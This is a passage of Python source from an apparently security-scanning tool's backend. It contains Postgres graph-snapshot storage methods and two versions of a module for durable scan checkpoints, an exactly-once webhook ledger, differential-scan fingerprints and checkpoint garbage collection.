                " AND node_id >= %s AND node_id <= %s ORDER BY node_id",
                (snapshot_id, first_id, last_id),
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [(r[0], json.loads(r[1])) for r in rows]

    def fetch_edges_touching(
        self, snapshot_id: int, node_id: str, limit: int | None = None
    ) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
        limit_sql = "" if limit is None else f" LIMIT {int(limit)}"
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT document FROM graph_edges WHERE snapshot_id = %s AND source = %s"
                f" ORDER BY edge_id{limit_sql}",
                (snapshot_id, node_id),
            )
            out_rows = cur.fetchall()
            cur.execute(
                "SELECT document FROM graph_edges WHERE snapshot_id = %s AND target = %s"
                f" ORDER BY edge_id{limit_sql}",
                (snapshot_id, node_id),
            )
            in_rows = cur.fetchall()
            self._conn.commit()
        return [json.loads(r[0]) for r in out_rows], [json.loads(r[0]) for r in in_rows]

    def edge_doc_at(self, snapshot_id: int, ordinal: int) -> dict[str, Any] | None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT document FROM graph_edges WHERE snapshot_id = %s"
                " ORDER BY edge_id LIMIT 1 OFFSET %s",
                (snapshot_id, int(ordinal)),
            )
            row = cur.fetchone()
            self._conn.commit()
        return json.loads(row[0]) if row else None

    def _persist(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str,
        is_current: int, job_id: str | None, demote_current: bool
    ) -> int:
        doc = graph.to_dict()
        with self._lock, self._conn.cursor() as cur:
            if demote_current:
                cur.execute(
                    "UPDATE graph_snapshots SET is_current = 0"
                    " WHERE tenant_id = %s AND is_current = 1",
                    (tenant_id,),
                )
            cur.execute(
                "INSERT INTO graph_snapshots (scan_id, tenant_id, created_at, is_current,"
                " node_count, edge_count, document, job_id)"
                " VALUES (%s, %s, %s, %s, %s, %s, %s, %s)"
                " RETURNING id",
                (
                    scan_id,
                    tenant_id,
                    time.time(),
                    is_current,
                    graph.node_count,
                    graph.edge_count,
                    json.dumps(doc, default=str),
                    job_id,
                ),
            )
            snapshot_id = int(cur.fetchone()[0])
            cur.executemany(
                _PG_NODE_INSERT + " ON CONFLICT (snapshot_id, node_id) DO NOTHING",
                [_node_row(snapshot_id, n) for n in doc["nodes"]],
            )
            cur.executemany(
                _PG_EDGE_INSERT + " ON CONFLICT (snapshot_id, edge_id) DO NOTHING",
                [_edge_row(snapshot_id, e) for e in doc["edges"]],
            )
            self._conn.commit()
            return snapshot_id

    def replace_current_snapshot(
        self,
        graph: UnifiedGraph,
        tenant_id: str = "default",
        expected_snapshot_id: int | None = None,
    ) -> bool:
        """CAS overwrite of the current snapshot (no history row)."""
        doc = graph.to_dict()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = %s AND is_current = 1"
                " FOR UPDATE",
                (tenant_id,),
            )
            row = cur.fetchone()
            if row is None:
                self._conn.rollback()
                return False
            current_id = int(row[0])
            if expected_snapshot_id is not None and current_id != expected_snapshot_id:
                self._conn.rollback()
                return False
            cur.execute(
                "UPDATE graph_snapshots SET document = %s, node_count = %s, edge_count = %s,"
                " created_at = %s WHERE id = %s",
                (
                    json.dumps(doc, default=str),
                    graph.node_count,
                    graph.edge_count,
                    time.time(),
                    current_id,
                ),
            )
            cur.execute("DELETE FROM graph_nodes WHERE snapshot_id = %s", (current_id,))
            cur.execute("DELETE FROM graph_edges WHERE snapshot_id = %s", (current_id,))
            cur.executemany(_PG_NODE_INSERT, [_node_row(current_id, n) for n in doc["nodes"]])
            cur.executemany(_PG_EDGE_INSERT, [_edge_row(current_id, e) for e in doc["edges"]])
            self._conn.commit()
        self._graph_cache.pop(tenant_id, None)
        return True

    def current_snapshot_id(self, tenant_id: str = "default") -> int | None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = %s AND is_current = 1",
                (tenant_id,),
            )
            row = cur.fetchone()
            self._conn.commit()
            return int(row[0]) if row else None

    def load_graph(
        self, tenant_id: str = "default", snapshot_id: int | None = None
    ) -> UnifiedGraph | None:
        with self._lock, self._conn.cursor() as cur:
            if snapshot_id is None:
                cur.execute(
                    "SELECT id, document FROM graph_snapshots"
                    " WHERE tenant_id = %s AND is_current = 1",
                    (tenant_id,),
                )
            else:
                cur.execute(
                    "SELECT id, document FROM graph_snapshots WHERE id = %s AND tenant_id = %s",
                    (snapshot_id, tenant_id),
                )
            row = cur.fetchone()
            self._conn.commit()
        if row is None:
            return None
        sid = int(row[0])
        cached = self._graph_cache.get(tenant_id)
        if cached is not None and cached[0] == sid:
            return cached[1]
        doc = json.loads(row[1])
        if doc.get("streamed"):
            # Stub document: hydrate from the node/edge rows (the lazy
            # path is StoreBackedUnifiedGraph — this is load-everything).
            doc["nodes"] = list(self.iter_nodes(sid))
            doc["edges"] = list(self.iter_edges(sid))
        graph = UnifiedGraph.from_dict(doc)
        self._graph_cache[tenant_id] = (sid, graph)
        return graph

    def snapshots(self, tenant_id: str = "default", limit: int = 20) -> list[dict[str, Any]]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id, scan_id, created_at, is_current, node_count, edge_count"
                " FROM graph_snapshots WHERE tenant_id = %s AND is_current >= 0"
                " ORDER BY id DESC LIMIT %s",
                (tenant_id, limit),
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [
            {
                "id": int(r[0]),
                "scan_id": r[1],
                "created_at": r[2],
                "is_current": bool(r[3]),
                "node_count": r[4],
                "edge_count": r[5],
            }
            for r in rows
        ]

    def search_nodes(
        self, query: str, tenant_id: str = "default", limit: int = 50
    ) -> list[dict[str, Any]]:
        sid = self.current_snapshot_id(tenant_id)
        if sid is None:
            return []
        pattern = f"%{query.lower()}%"
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT document FROM graph_nodes WHERE snapshot_id = %s AND"
                " (LOWER(label) LIKE %s OR LOWER(node_id) LIKE %s)"
                " ORDER BY risk_score DESC NULLS LAST LIMIT %s",
                (sid, pattern, pattern, limit),
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [json.loads(r[0]) for r in rows]

    def get_node(self, node_id: str, tenant_id: str = "default") -> dict[str, Any] | None:
        sid = self.current_snapshot_id(tenant_id)
        if sid is None:
            return None
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT document FROM graph_nodes WHERE snapshot_id = %s AND node_id = %s",
                (sid, node_id),
            )
            row = cur.fetchone()
            self._conn.commit()
        return json.loads(row[0]) if row else None

    def diff_snapshots(self, old_id: int, new_id: int) -> dict[str, Any]:
        """Node/edge additions + removals (same shape as the SQLite store),
        plus the PR-14 per-type breakdowns and blast-radius delta.
        O(delta) memory via the shared sorted merge-join (PR 15)."""
        node_added, node_removed = merge_sorted_diff(
            ((r[0], (r[1], r[2], r[3])) for r in self.iter_node_meta(old_id)),
            ((r[0], (r[1], r[2], r[3])) for r in self.iter_node_meta(new_id)),
        )
        edge_added, edge_removed = merge_sorted_diff(
            ((r[0], r[3]) for r in self.iter_edge_meta(old_id)),
            ((r[0], r[3]) for r in self.iter_edge_meta(new_id)),
        )
        delta = {
            "nodes_added": sorted(node_added),
            "nodes_removed": sorted(node_removed),
            "edges_added": sorted(edge_added),
            "edges_removed": sorted(edge_removed),
            "old_snapshot_id": old_id,
            "new_snapshot_id": new_id,
        }
        return enrich_diff(delta, node_removed, node_added, edge_removed, edge_added)
