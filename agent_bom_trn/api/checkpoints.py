"""Durable stage checkpoints + exactly-once effect ledger.

The crash-safety substrate for the scan pipeline (reference: the
durable-queue design stops at at-least-once redelivery; this layer
promotes it to exactly-once *effects*):

- ``scan_checkpoints`` — one row per (job, stage): the stage's input
  fingerprint, its output digest, and the serialized output (pickle for
  model-object stages, JSON for document stages). On redelivery the
  claiming worker verifies the fingerprint chain and resumes from the
  last completed stage instead of restarting from zero.
- ``notify_log`` — idempotency ledger for the scan-complete webhook,
  keyed by ``job_id:doc_digest``: a crash between send and ack cannot
  double-deliver, because the key is claimed before the POST and only
  flips to ``delivered`` after a 2xx.

Fingerprints chain: ``fp(stage N) = H(request_fp : digest(stage N-1))``
so a checkpoint is only trusted when the request AND every upstream
output it was derived from are unchanged — the same digest keying
ROADMAP item 5's differential scanning needs.

:class:`SQLiteCheckpointMixin` carries the SQLite implementation shared
by the scan queue (queue mode: durable, cross-process) and the job
store (executor mode: same code path, process-local durability). The
Postgres queue mirrors the methods with psycopg placeholders.
"""

from __future__ import annotations

import hashlib
import json
import sqlite3
import time
from typing import Any

SQLITE_CHECKPOINT_DDL = """
CREATE TABLE IF NOT EXISTS scan_checkpoints (
    job_id TEXT NOT NULL,
    stage TEXT NOT NULL,
    fingerprint TEXT NOT NULL,
    output_digest TEXT NOT NULL,
    encoding TEXT NOT NULL,
    payload BLOB,
    created_at REAL NOT NULL,
    PRIMARY KEY (job_id, stage)
);
CREATE TABLE IF NOT EXISTS notify_log (
    dedupe_key TEXT PRIMARY KEY,
    job_id TEXT NOT NULL,
    doc_digest TEXT NOT NULL,
    state TEXT NOT NULL DEFAULT 'pending',
    created_at REAL NOT NULL,
    delivered_at REAL
);
CREATE INDEX IF NOT EXISTS idx_notify_job ON notify_log (job_id);
"""

PG_CHECKPOINT_DDL = """
CREATE TABLE IF NOT EXISTS scan_checkpoints (
    job_id TEXT NOT NULL,
    stage TEXT NOT NULL,
    fingerprint TEXT NOT NULL,
    output_digest TEXT NOT NULL,
    encoding TEXT NOT NULL,
    payload BYTEA,
    created_at DOUBLE PRECISION NOT NULL,
    PRIMARY KEY (job_id, stage)
);
CREATE TABLE IF NOT EXISTS notify_log (
    dedupe_key TEXT PRIMARY KEY,
    job_id TEXT NOT NULL,
    doc_digest TEXT NOT NULL,
    state TEXT NOT NULL DEFAULT 'pending',
    created_at DOUBLE PRECISION NOT NULL,
    delivered_at DOUBLE PRECISION
);
CREATE INDEX IF NOT EXISTS idx_notify_job ON notify_log (job_id);
"""


def request_fingerprint(request: dict[str, Any]) -> str:
    """Canonical digest of the scan request — the root of the chain."""
    canonical = json.dumps(request, sort_keys=True, default=str)
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()


def stage_fingerprint(request_fp: str, prev_output_digest: str | None) -> str:
    """Input fingerprint of a stage: request + upstream output digest."""
    return hashlib.sha256(
        f"{request_fp}:{prev_output_digest or 'root'}".encode("utf-8")
    ).hexdigest()


def payload_digest(payload: bytes) -> str:
    return hashlib.sha256(payload).hexdigest()


def doc_digest(doc: dict[str, Any]) -> str:
    """Canonical digest of a report document — the byte-identity proof
    the chaos harness compares against the webhook's delivered digest."""
    return hashlib.sha256(
        json.dumps(doc, sort_keys=True, default=str).encode("utf-8")
    ).hexdigest()


def notify_dedupe_key(job_id: str, digest: str) -> str:
    return f"{job_id}:{digest}"


class SQLiteCheckpointMixin:
    """Checkpoint + notify-ledger methods over ``self._conn``/``self._lock``.

    Host classes (SQLiteScanQueue, SQLiteJobStore) run
    :data:`SQLITE_CHECKPOINT_DDL` in their own __init__ — additive, so
    pre-existing database files converge (the trace_ctx migration
    pattern).
    """

    _conn: sqlite3.Connection
    _lock: Any

    # ── stage checkpoints ───────────────────────────────────────────────

    def save_checkpoint(self, job_id: str, stage: str, fingerprint: str,
                        output_digest: str, payload: bytes | None,
                        encoding: str) -> None:
        with self._lock:
            self._conn.execute(
                "INSERT OR REPLACE INTO scan_checkpoints"
                " (job_id, stage, fingerprint, output_digest, encoding, payload, created_at)"
                " VALUES (?, ?, ?, ?, ?, ?, ?)",
                (job_id, stage, fingerprint, output_digest, encoding, payload, time.time()),
            )
            self._conn.commit()

    def get_checkpoint(self, job_id: str, stage: str) -> dict[str, Any] | None:
        with self._lock:
            row = self._conn.execute(
                "SELECT fingerprint, output_digest, encoding, payload, created_at"
                " FROM scan_checkpoints WHERE job_id = ? AND stage = ?",
                (job_id, stage),
            ).fetchone()
        if row is None:
            return None
        return {
            "stage": stage,
            "fingerprint": row[0],
            "output_digest": row[1],
            "encoding": row[2],
            "payload": row[3],
            "created_at": row[4],
        }

    def list_checkpoints(self, job_id: str) -> list[dict[str, Any]]:
        """Checkpoint metadata (no payloads) in creation order."""
        with self._lock:
            rows = self._conn.execute(
                "SELECT stage, fingerprint, output_digest, encoding, created_at"
                " FROM scan_checkpoints WHERE job_id = ? ORDER BY created_at",
                (job_id,),
            ).fetchall()
        return [
            {"stage": r[0], "fingerprint": r[1], "output_digest": r[2],
             "encoding": r[3], "created_at": r[4]}
            for r in rows
        ]

    def clear_checkpoints(self, job_id: str) -> int:
        with self._lock:
            cur = self._conn.execute(
                "DELETE FROM scan_checkpoints WHERE job_id = ?", (job_id,)
            )
            self._conn.commit()
            return cur.rowcount

    # ── exactly-once notify ledger ──────────────────────────────────────

    def notify_claim(self, dedupe_key: str, job_id: str, digest: str) -> bool:
        """Claim the delivery slot. True = caller should send (first
        claim, or a crashed-before-send pending row); False = a prior
        delivery already succeeded — do not send again."""
        with self._lock:
            self._conn.execute(
                "INSERT OR IGNORE INTO notify_log"
                " (dedupe_key, job_id, doc_digest, state, created_at)"
                " VALUES (?, ?, ?, 'pending', ?)",
                (dedupe_key, job_id, digest, time.time()),
            )
            self._conn.commit()
            row = self._conn.execute(
                "SELECT state FROM notify_log WHERE dedupe_key = ?", (dedupe_key,)
            ).fetchone()
        return row is not None and row[0] != "delivered"

    def notify_mark_delivered(self, dedupe_key: str) -> None:
        with self._lock:
            self._conn.execute(
                "UPDATE notify_log SET state = 'delivered', delivered_at = ?"
                " WHERE dedupe_key = ?",
                (time.time(), dedupe_key),
            )
            self._conn.commit()

    def notify_state(self, dedupe_key: str) -> str | None:
        with self._lock:
            row = self._conn.execute(
                "SELECT state FROM notify_log WHERE dedupe_key = ?", (dedupe_key,)
            ).fetchone()
        return row[0] if row else None
