"""Durable stage checkpoints + exactly-once effect ledger.

The crash-safety substrate for the scan pipeline (reference: the
durable-queue design stops at at-least-once redelivery; this layer
promotes it to exactly-once *effects*):

- ``scan_checkpoints`` — one row per (job, stage): the stage's input
  fingerprint, its output digest, and the serialized output (pickle for
  model-object stages, JSON for document stages). On redelivery the
  claiming worker verifies the fingerprint chain and resumes from the
  last completed stage instead of restarting from zero.
- ``notify_log`` — idempotency ledger for the scan-complete webhook,
  keyed by ``job_id:doc_digest``: a crash between send and ack cannot
  double-deliver, because the key is claimed before the POST and only
  flips to ``delivered`` after a 2xx.

Fingerprints chain: ``fp(stage N) = H(request_fp : digest(stage N-1))``
so a checkpoint is only trusted when the request AND every upstream
output it was derived from are unchanged — the same digest keying
ROADMAP item 5's differential scanning needs.

Differential scans (PR 14) add a second table keyed by *content*, not
job: ``scan_slice_checkpoints`` rows live under ``(tenant, params_fp,
slice_fp, stage)`` where ``slice_fp`` is the canonical digest of one
agent's discovered inventory (volatile fields excluded). A warm re-scan
of an unchanged slice hits the same row whichever job wrote it, so the
expensive per-slice stage work is O(changed slices), while estate-wide
joins always run live for byte-identical output. Staleness is bounded
twice over: the advisory-source identity (:func:`advisory_fingerprint`)
is folded into the namespace so versioned sources rotate it, and the
read path refuses rows older than ``AGENT_BOM_CHECKPOINT_MAX_AGE_S``
(the unversioned online OSV case) — a cached match result never
outlives the advisory data it was computed from.

:class:`SQLiteCheckpointMixin` carries the SQLite implementation shared
by the scan queue (queue mode: durable, cross-process) and the job
store (executor mode: same code path, process-local durability). The
Postgres queue mirrors the methods with psycopg placeholders.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import sqlite3
import time
from typing import Any

from agent_bom_trn.db import instrument

SQLITE_CHECKPOINT_DDL = """
CREATE TABLE IF NOT EXISTS scan_checkpoints (
    job_id TEXT NOT NULL,
    stage TEXT NOT NULL,
    fingerprint TEXT NOT NULL,
    output_digest TEXT NOT NULL,
    encoding TEXT NOT NULL,
    payload BLOB,
    created_at REAL NOT NULL,
    PRIMARY KEY (job_id, stage)
);
CREATE TABLE IF NOT EXISTS notify_log (
    dedupe_key TEXT PRIMARY KEY,
    job_id TEXT NOT NULL,
    doc_digest TEXT NOT NULL,
    state TEXT NOT NULL DEFAULT 'pending',
    created_at REAL NOT NULL,
    delivered_at REAL
);
CREATE INDEX IF NOT EXISTS idx_notify_job ON notify_log (job_id);
CREATE TABLE IF NOT EXISTS scan_slice_checkpoints (
    tenant_id TEXT NOT NULL,
    request_fp TEXT NOT NULL,
    slice_fp TEXT NOT NULL,
    stage TEXT NOT NULL,
    output_digest TEXT NOT NULL,
    encoding TEXT NOT NULL,
    payload BLOB,
    job_id TEXT NOT NULL,
    created_at REAL NOT NULL,
    PRIMARY KEY (tenant_id, request_fp, slice_fp, stage)
);
CREATE INDEX IF NOT EXISTS idx_slice_ckpt_req
    ON scan_slice_checkpoints (tenant_id, request_fp, created_at);
"""

PG_CHECKPOINT_DDL = """
CREATE TABLE IF NOT EXISTS scan_checkpoints (
    job_id TEXT NOT NULL,
    stage TEXT NOT NULL,
    fingerprint TEXT NOT NULL,
    output_digest TEXT NOT NULL,
    encoding TEXT NOT NULL,
    payload BYTEA,
    created_at DOUBLE PRECISION NOT NULL,
    PRIMARY KEY (job_id, stage)
);
CREATE TABLE IF NOT EXISTS notify_log (
    dedupe_key TEXT PRIMARY KEY,
    job_id TEXT NOT NULL,
    doc_digest TEXT NOT NULL,
    state TEXT NOT NULL DEFAULT 'pending',
    created_at DOUBLE PRECISION NOT NULL,
    delivered_at DOUBLE PRECISION
);
CREATE INDEX IF NOT EXISTS idx_notify_job ON notify_log (job_id);
CREATE TABLE IF NOT EXISTS scan_slice_checkpoints (
    tenant_id TEXT NOT NULL,
    request_fp TEXT NOT NULL,
    slice_fp TEXT NOT NULL,
    stage TEXT NOT NULL,
    output_digest TEXT NOT NULL,
    encoding TEXT NOT NULL,
    payload BYTEA,
    job_id TEXT NOT NULL,
    created_at DOUBLE PRECISION NOT NULL,
    PRIMARY KEY (tenant_id, request_fp, slice_fp, stage)
);
CREATE INDEX IF NOT EXISTS idx_slice_ckpt_req
    ON scan_slice_checkpoints (tenant_id, request_fp, created_at);
"""


def request_fingerprint(request: dict[str, Any]) -> str:
    """Canonical digest of the scan request — the root of the chain."""
    canonical = json.dumps(request, sort_keys=True, default=str)
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()


def stage_fingerprint(request_fp: str, prev_output_digest: str | None) -> str:
    """Input fingerprint of a stage: request + upstream output digest."""
    return hashlib.sha256(
        f"{request_fp}:{prev_output_digest or 'root'}".encode("utf-8")
    ).hexdigest()


def payload_digest(payload: bytes) -> str:
    return hashlib.sha256(payload).hexdigest()


def doc_digest(doc: dict[str, Any]) -> str:
    """Canonical digest of a report document — the byte-identity proof
    the chaos harness compares against the webhook's delivered digest."""
    return hashlib.sha256(
        json.dumps(doc, sort_keys=True, default=str).encode("utf-8")
    ).hexdigest()


def notify_dedupe_key(job_id: str, digest: str) -> str:
    return f"{job_id}:{digest}"


# ── differential-scan fingerprints ──────────────────────────────────────

# Estate content (what gets scanned) must not leak into the params
# fingerprint, or every inventory mutation would rotate the slice
# namespace and no slice could ever be reused. Delivery side effects
# (notify_url) don't change scan output either.
_PARAMS_EXCLUDE = ("inventory", "notify_url")

# Fields scrubbed from slice content at any nesting depth: wall-clock
# stamps assigned at discovery, and scan-result mutations written onto
# Package objects by the match engine — a re-discovered agent must
# fingerprint identically to its already-scanned twin.
_SLICE_VOLATILE = frozenset(
    {"discovered_at", "last_seen", "vulnerabilities", "is_malicious",
     "malicious_reason"}
)


def scan_params_fingerprint(
    request: dict[str, Any], advisory_fp: str | None = None
) -> str:
    """Digest of the scan *parameters* — request minus estate content.

    This is the ``request_fp`` column of the slice table: two jobs with
    the same knobs (demo/offline/max_hop_depth/...) share a slice
    namespace even when their inventories differ by one agent.

    ``advisory_fp`` folds the advisory-source identity
    (:func:`advisory_fingerprint`) into the namespace: cached match
    results are only as current as the advisory data they were matched
    against, so a new local-DB sync or package release must rotate the
    namespace rather than replay stale findings.
    """
    params = {k: v for k, v in request.items() if k not in _PARAMS_EXCLUDE}
    if advisory_fp:
        params["_advisory_fp"] = advisory_fp
    canonical = json.dumps(params, sort_keys=True, default=str)
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()


def advisory_fingerprint(offline: bool = False) -> str:
    """Identity digest of the advisory-source stack a scan matches
    against (mirrors :func:`build_advisory_sources`' selection):

    - bundled demo advisories: pinned by package version — the data
      ships in the wheel, so a release IS a new dataset;
    - local synced DB: file mtime+size — ``db sync`` rotates them;
    - OSV (online): has no stable version to key on; represented by
      mode only, with staleness bounded by the checkpoint freshness
      TTL (``AGENT_BOM_CHECKPOINT_MAX_AGE_S``) instead.
    """
    from agent_bom_trn import __version__, config  # noqa: PLC0415

    parts = [f"demo:{__version__}"]
    try:
        from agent_bom_trn.db.schema import default_db_path  # noqa: PLC0415

        st = os.stat(default_db_path())
        parts.append(f"local-db:{st.st_mtime_ns}:{st.st_size}")
    except (ImportError, OSError):
        pass
    if not (offline or config.OFFLINE):
        parts.append("osv:online")
    return hashlib.sha256("|".join(parts).encode("utf-8")).hexdigest()


def _scrub_volatile(value: Any) -> Any:
    # Fuses dataclass→dict conversion with the volatile scrub.
    # dataclasses.asdict deep-copies every leaf (~2 ms per 25-package
    # agent — it dominated warm-scan discovery); walking fields by hand
    # costs microseconds and leaves enum/str leaves to json's default=str.
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return {
            f.name: _scrub_volatile(getattr(value, f.name))
            for f in dataclasses.fields(value)
            if f.name not in _SLICE_VOLATILE
        }
    if isinstance(value, dict):
        return {
            k: _scrub_volatile(v)
            for k, v in value.items()
            if k not in _SLICE_VOLATILE
        }
    if isinstance(value, (list, tuple)):
        return [_scrub_volatile(v) for v in value]
    return value


def slice_fingerprint(agent: Any) -> str:
    """Canonical content digest of one agent's discovered inventory.

    Covers everything scan output can depend on (servers, packages,
    tools, credentials, config) while excluding volatile discovery
    stamps and scan-result mutations, so the fingerprint is stable
    across re-discovery AND across scan/restore cycles.
    """
    canonical = json.dumps(_scrub_volatile(agent), sort_keys=True, default=str)
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()


def estate_fingerprint(params_fp: str, slice_fps: list[str]) -> str:
    """Digest of the whole estate: params + every slice, order-free.

    Keys the full-estate artifacts (report document, graph) in the
    slice table — a warm re-scan of a byte-identical estate skips all
    the way to the committed document.
    """
    joined = ",".join(sorted(slice_fps))
    return hashlib.sha256(f"{params_fp}:{joined}".encode("utf-8")).hexdigest()


class SQLiteCheckpointMixin:
    """Checkpoint + notify-ledger methods over ``self._conn``/``self._lock``.

    Host classes (SQLiteScanQueue, SQLiteJobStore) run
    :data:`SQLITE_CHECKPOINT_DDL` in their own __init__ — additive, so
    pre-existing database files converge (the trace_ctx migration
    pattern).
    """

    _conn: sqlite3.Connection
    _lock: Any

    # ── stage checkpoints ───────────────────────────────────────────────

    def save_checkpoint(self, job_id: str, stage: str, fingerprint: str,
                        output_digest: str, payload: bytes | None,
                        encoding: str) -> None:
        with instrument.track("db:checkpoint_write", job_id=job_id, stage=stage), \
                self._lock:
            self._conn.execute(
                "INSERT OR REPLACE INTO scan_checkpoints"
                " (job_id, stage, fingerprint, output_digest, encoding, payload, created_at)"
                " VALUES (?, ?, ?, ?, ?, ?, ?)",
                (job_id, stage, fingerprint, output_digest, encoding, payload, time.time()),
            )
            self._conn.commit()

    def get_checkpoint(self, job_id: str, stage: str) -> dict[str, Any] | None:
        with instrument.track("db:checkpoint_read", job_id=job_id, stage=stage), \
                self._lock:
            row = self._conn.execute(
                "SELECT fingerprint, output_digest, encoding, payload, created_at"
                " FROM scan_checkpoints WHERE job_id = ? AND stage = ?",
                (job_id, stage),
            ).fetchone()
        if row is None:
            return None
        return {
            "stage": stage,
            "fingerprint": row[0],
            "output_digest": row[1],
            "encoding": row[2],
            "payload": row[3],
            "created_at": row[4],
        }

    def list_checkpoints(self, job_id: str) -> list[dict[str, Any]]:
        """Checkpoint metadata (no payloads) in creation order."""
        with self._lock:
            rows = self._conn.execute(
                "SELECT stage, fingerprint, output_digest, encoding, created_at"
                " FROM scan_checkpoints WHERE job_id = ? ORDER BY created_at",
                (job_id,),
            ).fetchall()
        return [
            {"stage": r[0], "fingerprint": r[1], "output_digest": r[2],
             "encoding": r[3], "created_at": r[4]}
            for r in rows
        ]

    def clear_checkpoints(self, job_id: str) -> int:
        with self._lock:
            cur = self._conn.execute(
                "DELETE FROM scan_checkpoints WHERE job_id = ?", (job_id,)
            )
            self._conn.commit()
            return cur.rowcount

    # ── slice checkpoints (differential scans) ──────────────────────────

    def save_slice_checkpoint(self, tenant_id: str, request_fp: str,
                              slice_fp: str, stage: str, output_digest: str,
                              payload: bytes | None, encoding: str,
                              job_id: str) -> None:
        """Upsert one slice artifact. The PK IS the retention policy's
        "keep latest per (tenant, request_fp, slice_fp)" — a re-scan of
        the same content overwrites in place, never accumulates."""
        with instrument.track("db:slice_write", stage=stage), self._lock:
            self._conn.execute(
                "INSERT OR REPLACE INTO scan_slice_checkpoints"
                " (tenant_id, request_fp, slice_fp, stage, output_digest,"
                "  encoding, payload, job_id, created_at)"
                " VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
                (tenant_id, request_fp, slice_fp, stage, output_digest,
                 encoding, payload, job_id, time.time()),
            )
            self._conn.commit()

    def get_slice_checkpoint(self, tenant_id: str, request_fp: str,
                             slice_fp: str, stage: str) -> dict[str, Any] | None:
        with instrument.track("db:slice_read", stage=stage), self._lock:
            row = self._conn.execute(
                "SELECT output_digest, encoding, payload, job_id, created_at"
                " FROM scan_slice_checkpoints"
                " WHERE tenant_id = ? AND request_fp = ? AND slice_fp = ?"
                " AND stage = ?",
                (tenant_id, request_fp, slice_fp, stage),
            ).fetchone()
        if row is None:
            return None
        return {
            "tenant_id": tenant_id,
            "request_fp": request_fp,
            "slice_fp": slice_fp,
            "stage": stage,
            "output_digest": row[0],
            "encoding": row[1],
            "payload": row[2],
            "job_id": row[3],
            "created_at": row[4],
        }

    def count_slice_checkpoints(self, tenant_id: str | None = None) -> int:
        with self._lock:
            if tenant_id is None:
                row = self._conn.execute(
                    "SELECT COUNT(*) FROM scan_slice_checkpoints"
                ).fetchone()
            else:
                row = self._conn.execute(
                    "SELECT COUNT(*) FROM scan_slice_checkpoints"
                    " WHERE tenant_id = ?",
                    (tenant_id,),
                ).fetchone()
        return int(row[0])

    def gc_checkpoints(self, retention: int, max_age_s: float = 0.0) -> dict[str, int]:
        """Retention GC, invoked on successful commit (satellite 1).

        - job-scoped rows: keep the newest ``retention`` jobs' chains
          (the just-committed job is by definition the newest → kept,
          so crash-resume of in-flight work is never starved);
        - slice rows: the upsert PK already keeps only the latest per
          (tenant, request_fp, slice_fp); ``retention`` additionally
          caps distinct request_fps per tenant (whole stale param
          namespaces go oldest-first — never individual slices of a
          live estate, so estates of any size stay fully warm);
        - ``max_age_s``: sweeps slice rows older than the freshness TTL
          the read path already refuses — expired rows are dead weight,
          and the sweep is what bounds distinct slice_fps accumulating
          inside a namespace as an estate mutates over time.

        Returns deleted-row counts. ``retention <= 0`` disables the
        caps; ``max_age_s <= 0`` disables the sweep.
        """
        jobs_deleted = 0
        slices_deleted = 0
        with self._lock:
            if retention > 0:
                cur = self._conn.execute(
                    "DELETE FROM scan_checkpoints WHERE job_id IN ("
                    " SELECT job_id FROM ("
                    "  SELECT job_id, MAX(created_at) AS newest"
                    "  FROM scan_checkpoints GROUP BY job_id"
                    "  ORDER BY newest DESC LIMIT -1 OFFSET ?))",
                    (retention,),
                )
                jobs_deleted = cur.rowcount
                cur = self._conn.execute(
                    "DELETE FROM scan_slice_checkpoints WHERE (tenant_id, request_fp) IN ("
                    " SELECT tenant_id, request_fp FROM ("
                    "  SELECT tenant_id, request_fp, ROW_NUMBER() OVER ("
                    "   PARTITION BY tenant_id ORDER BY MAX(created_at) DESC) AS rn"
                    "  FROM scan_slice_checkpoints"
                    "  GROUP BY tenant_id, request_fp) WHERE rn > ?)",
                    (retention,),
                )
                slices_deleted += cur.rowcount
            if max_age_s > 0:
                cur = self._conn.execute(
                    "DELETE FROM scan_slice_checkpoints WHERE created_at < ?",
                    (time.time() - max_age_s,),
                )
                slices_deleted += cur.rowcount
            self._conn.commit()
        return {"jobs": jobs_deleted, "slices": slices_deleted}

    # ── exactly-once notify ledger ──────────────────────────────────────

    def notify_claim(self, dedupe_key: str, job_id: str, digest: str) -> bool:
        """Claim the delivery slot. True = caller should send (first
        claim, or a crashed-before-send pending row); False = a prior
        delivery already succeeded — do not send again."""
        with self._lock:
            self._conn.execute(
                "INSERT OR IGNORE INTO notify_log"
                " (dedupe_key, job_id, doc_digest, state, created_at)"
                " VALUES (?, ?, ?, 'pending', ?)",
                (dedupe_key, job_id, digest, time.time()),
            )
            self._conn.commit()
            row = self._conn.execute(
                "SELECT state FROM notify_log WHERE dedupe_key = ?", (dedupe_key,)
            ).fetchone()
        return row is not None and row[0] != "delivered"

    def notify_mark_delivered(self, dedupe_key: str) -> None:
        with self._lock:
            self._conn.execute(
                "UPDATE notify_log SET state = 'delivered', delivered_at = ?"
                " WHERE dedupe_key = ?",
                (time.time(), dedupe_key),
            )
            self._conn.commit()

    def notify_state(self, dedupe_key: str) -> str | None:
        with self._lock:
            row = self._conn.execute(
                "SELECT state FROM notify_log WHERE dedupe_key = ?", (dedupe_key,)
            ).fetchone()
        return row[0] if row else None


def gc_sweep_batched(conn, retention: int, max_age_s: float,
                     batch: int = 256) -> dict[str, int]:
    """One retention-GC pass in BOUNDED delete batches, for a dedicated
    side connection (PR 20, satellite 1).

    Same policy as :meth:`SQLiteCheckpointMixin.gc_checkpoints` — stale
    job chains past ``retention``, stale per-tenant request_fp
